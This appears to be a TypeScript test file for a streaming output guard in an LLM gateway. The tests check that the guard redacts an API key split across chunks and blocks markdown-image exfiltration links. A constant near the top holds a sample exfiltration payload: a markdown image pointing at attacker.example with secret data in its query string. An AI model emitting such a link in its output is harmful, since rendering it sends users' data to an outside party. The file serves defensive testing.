import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createGuard } from '../../guard/create-guard.js';
import { SAMPLE_DETECTORS } from '../../guard/test-support/sample-detectors.js';
import { parseGatewayConfig } from '../config/load-gateway-config.js';
import { splitAt } from '../test-support/split-at.js';
import { createOutputChecker } from './output-checker.js';
import { createStreamTextGuard, safeCut } from './stream-text-guard.js';

const guard = createGuard({ policy: 'balanced', detectors: SAMPLE_DETECTORS });
const config = parseGatewayConfig({});
const checker = createOutputChecker({ guard, failMode: config.failMode });
const EXFIL = '![chart](https://attacker.example/c.png?d=the-secret-plan)';

function run(mode: 'window' | 'buffer' | 'audit', pieces: readonly string[]) {
  const streamGuard = createStreamTextGuard({
    checker,
    streaming: { ...config.streaming, mode },
    maxBufferChars: 1_000_000,
  });
  let sent = '';
  for (const piece of pieces) {
    const result = streamGuard.push(piece);
    sent += result.text;
    if (result.violation) return { sent, violation: result.violation, findings: streamGuard.findings };
  }
  const last = streamGuard.finish();
  sent += last.text;
  return { sent, violation: last.violation, findings: streamGuard.findings };
}

describe('createStreamTextGuard', () => {
  it('never releases any part of a markdown exfiltration link split across many chunks (window)', () => {
    const filler = 'Here is a long and harmless introduction to the report. '.repeat(12);
    fc.assert(
      fc.property(fc.array(fc.nat(), { maxLength: 60 }), fc.nat(filler.length), (cuts, at) => {
        const text = `${filler.slice(0, at)} ${EXFIL} and more text after it. ${filler}`;
        const result = run('window', splitAt(text, cuts));
        expect(result.violation?.blocked).toBe(true);
        expect(result.sent).not.toContain('![');
        expect(result.sent).not.toContain('attacker.example');
        expect(text.startsWith(result.sent)).toBe(true);
      }),
      { numRuns: 200 },
    );
  });

  it('releases benign text unchanged and in order, holding back only a bounded window', () => {
    const text = 'The quick brown fox jumps over the lazy dog. '.repeat(40);
    const streamGuard = createStreamTextGuard({
      checker,
      streaming: config.streaming,
      maxBufferChars: 1_000_000,
    });
    let sent = '';
    let maxHeld = 0;
    let received = 0;
    for (const piece of splitAt(
      text,
      Array.from({ length: 300 }, (_, index) => index * 7),
    )) {
      received += piece.length;
      sent += streamGuard.push(piece).text;
      maxHeld = Math.max(maxHeld, received - sent.length);
    }
    sent += streamGuard.finish().text;
    expect(sent).toBe(text);
    expect(maxHeld).toBeLessThanOrEqual(config.streaming.holdbackChars + 64);
  });

  it('redacts a key split across chunks before any of it is sent', () => {
    const key = `sk-${'A1b2C3d4E5'.repeat(3)}`;
    const text = `Use the key ${key} for billing, then continue with the rest of the explanation.`;
    const result = run('window', splitAt(text, [5, 14, 15, 16, 20, 28, 33, 40]));
    expect(result.violation).toBeUndefined();
    expect(result.sent).not.toContain(key.slice(0, 12));
    expect(result.sent).toContain('[REDACTED:');
  });

  it('buffer mode releases nothing before the end; audit mode passes through and records', () => {
    const text = `Intro. ${EXFIL} outro.`;
    const buffered = run('buffer', splitAt(text, [3, 9, 20]));
    expect(buffered.sent).toBe('');
    expect(buffered.violation?.blocked).toBe(true);
    const audited = run('audit', splitAt(text, [3, 9, 20]));
    expect(audited.sent).toBe(text);
    expect(audited.violation).toBeUndefined();
    expect(audited.findings.map((finding) => finding.type)).toContain('MARKDOWN_IMAGE_EXFILTRATION');
  });

  it('cuts before open links and tags and after whitespace', () => {
    expect(safeCut('hello world this is text', 4)).toBe(20);
    expect(safeCut('see ![img](https://host/path and more words here', 4)).toBe(4);
    expect(safeCut('click <a href="x" and then some words', 4)).toBe(6);
    expect(safeCut('[1] reference and more text here', 4)).toBe(28);
    expect(safeCut('if (a < b) return the smaller value of both', 4)).toBe(39);
  });
});
